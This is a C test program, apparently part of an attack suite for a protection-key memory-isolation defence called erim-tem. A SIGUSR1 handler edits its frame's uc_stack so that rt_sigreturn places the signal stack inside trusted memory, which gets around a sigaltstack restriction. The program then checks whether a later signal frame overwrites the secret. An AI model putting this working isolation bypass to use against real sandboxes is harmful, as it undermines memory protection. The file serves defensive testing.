/* SPDX-License-Identifier: MIT */
/* atk_sigreturn_ucstack.c: a signal stack installed by rt_sigreturn.
 * rt_sigreturn restores the signal stack from the frame's uc_stack
 * (restore_altstack) without any sigaltstack call.  A SIGUSR1 handler
 * rewrites its frame's uc_stack to the trusted secret and returns; a direct
 * sigaltstack(secret) is tried first (the sigaltstack row refuses it).
 * The attack succeeded when the kernel's signal stack now lies in trusted
 * memory (sigaltstack(NULL, &cur) says so): the next SA_ONSTACK signal's
 * frame -- registers of the caller's choosing -- would be written there
 * (Linux 6.12 writes frames with every key enabled; the program then also
 * raises one and reports whether the secret changed).
 *
 * Under erim-tem the rt_sigreturn of the edited frame stops the process.
 * Control (not under erim-tem): the signal stack is set into the secret. */
#define ATK_SECRET_LEN (4 * 4096)
#include <ucontext.h>

#include "atk_common.h"

static void edit_frame(int sig, siginfo_t *si, void *ctx)
{
	ucontext_t *uc = ctx;

	(void)sig;
	(void)si;
	uc->uc_stack.ss_sp = atk_secret;
	uc->uc_stack.ss_size = ATK_SECRET_LEN;
	uc->uc_stack.ss_flags = 0;
}

static volatile sig_atomic_t onstack_ran;

static void onstack(int sig)
{
	(void)sig;
	onstack_ran = 1;
}

static enum atk_result atk_attack(void)
{
	stack_t ss = { .ss_sp = atk_secret, .ss_size = ATK_SECRET_LEN, .ss_flags = 0 }, cur;
	struct sigaction sa;
	int direct = sigaltstack(&ss, NULL);

	atk_say("direct sigaltstack(secret): %s", direct == 0 ? "accepted" : strerror(errno));
	if (direct == 0) {   /* start again from no signal stack: the frame must do it */
		ss.ss_flags = SS_DISABLE;
		sigaltstack(&ss, NULL);
	}
	memset(&sa, 0, sizeof sa);
	sa.sa_sigaction = edit_frame;
	sa.sa_flags = SA_SIGINFO;
	sigaction(SIGUSR1, &sa, NULL);
	raise(SIGUSR1);   /* its rt_sigreturn restores the edited uc_stack */
	if (sigaltstack(NULL, &cur) != 0)
		return ATK_ERROR;
	atk_say("after rt_sigreturn of the edited frame: signal stack %p, %zu bytes, flags %d (secret at %p)",
	        cur.ss_sp, cur.ss_size, cur.ss_flags, (void *)atk_secret);
	if (cur.ss_flags & SS_DISABLE || (uint8_t *)cur.ss_sp != atk_secret)
		return ATK_REFUSED;
	/* the signal stack lies in trusted memory: the row is bypassed.  One
	 * SA_ONSTACK signal shows where its frame goes (a fault on kernels
	 * that write frames with the thread's PKRU) */
	{
		pid_t pid = fork();
		int st;

		if (pid == 0) {
			memset(&sa, 0, sizeof sa);
			sa.sa_handler = onstack;
			sa.sa_flags = SA_ONSTACK;
			sigaction(SIGUSR2, &sa, NULL);
			raise(SIGUSR2);
			_exit(onstack_ran ? 0 : 2);
		}
		if (pid > 0 && waitpid(pid, &st, 0) == pid)
			atk_say("an SA_ONSTACK signal then: %s; trusted secret %s",
			        WIFSIGNALED(st) ? "the frame write faulted (this kernel writes frames with the thread's PKRU)"
			                        : "its handler ran",
			        atk_secret_intact() ? "intact" : "CHANGED by the frame");
	}
	return ATK_SUCCEEDED;
}

static const char *atk_name = "atk_sigreturn_ucstack";
static int atk_needs_pku = 0;
